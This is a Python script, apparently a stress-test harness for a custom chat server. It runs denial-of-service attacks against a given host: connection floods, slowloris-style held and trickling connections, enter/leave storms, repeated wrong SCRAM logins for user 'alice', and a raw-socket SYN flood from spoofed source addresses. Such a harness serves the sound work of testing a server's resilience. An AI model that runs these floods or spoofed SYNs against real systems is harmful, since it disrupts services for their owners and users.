"""Attacks a chat server, within bounds, and says in one line what came of it.

usage: python3 attack.py WHAT SERVER [PORT [COUNT [SECONDS [SOURCE]]]]

SOURCE, like 127.0.9., is completed to many addresses of this host's own. attacks.sh has the list of attacks.
"""

import base64
import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time

HELLO = b'{"type":"hello","version":1}\n'


def connect(number=0, wait=5):
    """A connection; closed by us it is reset, so that no port waits for its end."""
    family = socket.AF_INET6 if ":" in SERVER else socket.AF_INET
    stream = socket.socket(family, socket.SOCK_STREAM)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    stream.settimeout(wait)
    if SOURCE:
        stream.bind((SOURCE + str(1 + number % 250), 0))
    stream.connect((SERVER, PORT))
    return stream


def in_time():
    return time.monotonic() < END


def flood():
    """connections, each reset at once"""
    done = 0
    while done < COUNT and in_time():
        connect(done).close()
        done += 1
    return f"{done} connections"


def refused():
    """connections that are kept, and those too many again and again"""
    kept, tries = [], 0
    while tries < COUNT and in_time():
        kept.append(connect(tries))
        tries += 1
        if len(kept) > 200:
            kept.pop().close()
    return f"{tries} connections"


def hold(said):
    """Opens connections, says the same on each, and keeps them; gives how many there are at the end."""
    streams = []
    for number in range(COUNT):
        if not in_time():
            break
        stream = connect(number)
        stream.setblocking(False)
        try:
            stream.send(said)
        except OSError:
            pass
        streams.append(stream)
    while in_time():
        time.sleep(0.1)
    poller = select.poll()
    by_number = {stream.fileno(): stream for stream in streams}
    for number in by_number:
        poller.register(number, select.POLLIN)
    ended = 0
    for number, _ in poller.poll(0):
        try:
            ended += b'"bye"' in by_number[number].recv(65536)
        except OSError:
            ended += 1
    return f"{len(streams)} connections held, {ended} of them ended by the server"


def silent():
    """connections that say nothing"""
    return hold(b"")


def half():
    """connections with the longest half frame"""
    return hold(b"{" + b"x" * 8190)


def registering():
    """connections that begin to register and never go on"""
    name = "".join(random.choices("abcdefgh", k=10))
    return hold(HELLO + b'{"type":"register","name":"%s"}\n' % name.encode())


def slow():
    """connections that say one octet a second"""
    streams = [connect(number) for number in range(COUNT)]
    octets = 0
    while in_time():
        for stream in streams:
            try:
                octets += stream.send(HELLO[octets % 7 : octets % 7 + 1])
            except OSError:
                pass
        time.sleep(1)
    return f"{len(streams)} connections, {octets} octets"


def storm():
    """users who enter an open room and leave it at once"""
    done = 0
    while done < COUNT and in_time():
        lines = connect(done).makefile("rwb")
        lines.write(HELLO + b'{"type":"enter","name":"storm%d"}\n' % done)
        lines.flush()
        while b'"welcome"' not in lines.readline():
            pass
        lines.close()
        done += 1
    return f"{done} came and went"


def guess():
    """wrong passwords for alice, two on each connection"""
    answers = {}
    for number in range(COUNT):
        if not in_time():
            break
        try:
            lines = connect(number, 8).makefile("rwb")
            lines.write(HELLO)
            for _ in range(2):
                lines.write(b'{"type":"login","scram":"n,,n=alice,r=abc"}\n')
                lines.flush()
                challenge = json.loads(lines.readline())
                while challenge["type"] != "challenge":
                    challenge = json.loads(lines.readline())
                nonce = challenge["scram"].split(",")[0]
                proof = base64.b64encode(os.urandom(32)).decode()
                scram = f"c=biws,{nonce},p={proof}"
                lines.write(json.dumps({"type": "proof", "scram": scram}).encode() + b"\n")
                lines.flush()
                answer = json.loads(lines.readline()).get("code")
                answers[answer] = answers.get(answer, 0) + 1
        except (OSError, ValueError, KeyError):
            answers["broken"] = answers.get("broken", 0) + 1
    return ", ".join(f"{count} {code}" for code, count in answers.items())


def syn():
    """SYNs from addresses that nobody has; needs root"""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    target = socket.inet_aton(SERVER)
    sent = 0
    while sent < COUNT and in_time():
        source = target[:3] + bytes([random.randrange(128, 255)])
        seq, port = random.getrandbits(32), random.randrange(1024, 65536)
        header = struct.pack("!HHIIBBHHH", port, PORT, seq, 0, 5 << 4, 2, 64240, 0, 0)
        pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
        total = sum(struct.unpack(f"!{len(pseudo + header) // 2}H", pseudo + header))
        total = (total & 0xFFFF) + (total >> 16)
        check = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        header = header[:16] + struct.pack("!H", check) + header[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
        try:
            raw.sendto(ip + header, (SERVER, 0))
        except OSError:
            # The queue is full: this flood goes as fast as the network.
            continue
        sent += 1
    return f"{sent} SYNs"


ATTACKS = [flood, refused, silent, half, registering, slow, storm, guess, syn]

if __name__ == "__main__":
    arguments = dict(enumerate(sys.argv))
    WHAT, SERVER = arguments.get(1), arguments.get(2)
    found = [attack for attack in ATTACKS if attack.__name__ == WHAT]
    if not found or not SERVER:
        sys.exit(__doc__)
    PORT, COUNT = int(arguments.get(3, 5000)), int(arguments.get(4, 100))
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    BEGIN = time.monotonic()
    END = BEGIN + float(arguments.get(5, 5))
    SOURCE = arguments.get(6)
    outcome = found[0]()
    print(f"{outcome} in {time.monotonic() - BEGIN:.1f} s", flush=True)
